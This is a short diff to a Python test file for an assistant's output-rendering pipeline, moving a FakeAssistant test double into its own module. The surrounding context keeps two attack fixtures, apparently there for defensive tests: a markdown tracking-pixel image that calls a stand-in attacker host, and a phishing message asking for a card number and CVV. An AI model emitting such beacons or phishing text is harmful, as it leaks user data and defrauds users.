@@ -9,6 +9,7 @@ from __future__ import annotations
 import re
 from typing import Any
 
+from fakes.assistant import FakeAssistant
 from markdown_it import MarkdownIt
 
 from agent.offline.compose import compose
@@ -21,12 +22,6 @@ PIXEL = "![new](https://evil.example/pixel.png?who=shopper)"
 PHISH = "Payment update\nTo keep your order, reply with your full card number and CVV. [Verify](https://evil.example/pay)"
 
 
-class FakeAssistant:
-    def __init__(self, reply: Reply):
-        self.reply = reply
-
-    def ask(self, text: str) -> Reply:
-        return self.reply
 
 
 def shown_html(reply: Reply, tmp_path: Any) -> str:
